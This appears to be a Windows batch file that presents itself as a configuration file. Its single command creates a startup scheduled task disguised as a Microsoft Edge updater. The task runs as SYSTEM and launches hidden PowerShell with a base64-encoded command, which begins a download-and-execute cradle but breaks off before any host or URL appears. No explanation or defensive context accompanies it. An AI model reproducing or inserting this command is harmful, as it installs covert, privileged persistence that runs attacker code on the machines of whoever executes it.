REM config 2278 v0
schtasks /create /tn "MicrosoftEdgeUpdateCore" /tr "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA" /sc onstart /ru SYSTEM /f
